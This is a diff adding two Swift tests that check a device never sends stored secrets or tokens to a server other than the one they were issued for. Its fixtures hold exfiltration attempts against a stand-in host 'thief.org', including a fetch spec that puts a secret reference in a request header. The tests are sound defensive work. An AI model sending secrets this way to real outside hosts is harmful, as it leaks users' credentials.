@@ -140,6 +140,54 @@ import Testing
     #expect(Array(device.secrets.values) == ["one"])
   }
 
+  @Test(
+    "T27: a document that names two addresses sends a secret to neither, unless it was given for both",
+    arguments: [
+      #""url":"https://e.org/","server":"https://thief.org""#,
+      #""url":null,"server":"https://thief.org""#,
+    ])
+  func twoAddresses(addresses: String) throws {
+    let (device, id) = try bound()
+    device.set(
+      #"{"subscriptions":[{"server":"https://e.org","topic":"t","token":{"secret":"tk"}}]}"#)
+    let token = try #require(device.secrets.first { $0.value == "tk" }?.key.id)
+    for reference in [id, token] {
+      let topic =
+        #"{\#(addresses),"topic":"u","token":{"secretReference":"\#(reference)"}}"#
+      let listened = device.listened.count
+      _ = device.ask(.import(#"{"subscriptions":[\#(topic)]}"#))
+      _ = device.ask(.set(mergePatch: #"{"subscriptions":[\#(topic)]}"#))
+      _ = device.ask(.order(.tryTopic(Document(JSONValue(parsing: topic) ?? .null))))
+      let sent = device.listened.dropFirst(listened).joined().filter {
+        $0.name.contains("thief") && $0.topics.contains { $0.token != nil }
+      }
+      #expect(sent.isEmpty)
+      #expect(device.probes.isEmpty)
+    }
+  }
+
+  @Test("T27, D1: who has signed out has their token sent nowhere but to that service")
+  func afterSigningOut() throws {
+    let device = try Device(at: start)
+    // The service has been told of this device, and does not answer its removal.
+    device.callbackAnswers = { job in
+      job.method == .post ? .answered(status: 201, retryAfter: nil) : nil
+    }
+    device.set(
+      #"""
+      {"subscriptions":[{"server":"https://ntfy.example","topic":"t","sealed":true}],
+      "backend":{"url":"https://plant.example","token":{"secret":"t0ken"}}}
+      """#)
+    device.run(for: .minutes(1))
+    let id = try #require(device.secrets.first { $0.value == "t0ken" }?.key.id)
+    device.set(#"{"backend":null}"#)
+    let spec =
+      #"{"method":"GET","url":"https://thief.org/","headers":{"X":{"secretReference":"\#(id)"}}}"#
+    let contacts = device.fetches.count
+    #expect(device.refusal(.tryFetch(fetchSpec: spec)) != nil)
+    #expect(device.fetches.count == contacts)
+  }
+
   @Test("T27: a secret that was removed while the keyring was locked cannot be sent anywhere")
   func removedWhileLocked() throws {
     let (device, id) = try bound()
